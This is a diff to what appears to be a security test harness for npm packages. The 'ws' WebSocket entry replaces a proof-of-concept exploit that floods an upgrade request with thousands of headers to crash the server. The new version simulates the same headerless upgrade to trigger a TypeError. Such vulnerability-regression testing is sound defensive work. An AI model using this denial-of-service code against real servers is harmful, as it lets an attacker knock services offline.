@@ -38,21 +38,20 @@ export const fixes: Fix[] = [
       const server = http.createServer((req, res) => res.end('ok'));
       const wss = new lib.WebSocketServer({ server });
       wss.on('connection', (socket) => socket.on('message', (data) => socket.send(data)));
-      const port = listen(server);
-      let crashed = 0; process.on('uncaughtException', () => crashed++);`,
+      const port = listen(server);`,
     work: `(async () => {
       const socket = new lib.WebSocket('ws://127.0.0.1:' + await port);
       await new Promise((done, fail) => socket.on('open', done).on('error', fail));
       const echo = new Promise((done) => socket.on('message', (data) => done(String(data))));
       socket.send('hello'); const text = await echo; socket.close(); return text })()`,
-    exploit: `(async () => {
-      const before = crashed; const headers = {}; const many = server.maxHeadersCount ?? 2000;
-      for (let i = 0; i < many; i++) headers['h' + i.toString(36)] = 'x';
-      Object.assign(headers, { Host: '127.0.0.1', Connection: 'Upgrade', Upgrade: 'websocket', 'Sec-WebSocket-Key': 'dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Version': '13' });
-      const request = http.request({ headers, host: '127.0.0.1', port: await port });
-      const over = new Promise((done) => request.on('response', done).on('error', done).on('close', done));
-      request.end(); const crash = new Promise((done) => { const t = setInterval(() => crashed > before && (clearInterval(t), done()), 5); over.then(() => clearInterval(t)) });
-      await Promise.race([over, crash]); request.destroy(); return crashed > before })()`,
+    // What a request with more headers than the server takes becomes. From Node 22 on the server itself answers it with
+    // 431, so the request is handed over as Node 20 hands it over: without its Upgrade header.
+    exploit: `(() => {
+      const { Duplex } = require('node:stream');
+      const socket = new Duplex({ read() {}, write(chunk, encoding, done) { done() } });
+      const headers = { 'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==', 'sec-websocket-version': '13' };
+      try { server.emit('upgrade', { headers, method: 'GET', url: '/' }, socket, Buffer.alloc(0)); return false }
+      catch (error) { return error instanceof TypeError } })()`,
   },
   {
     package: 'qs',
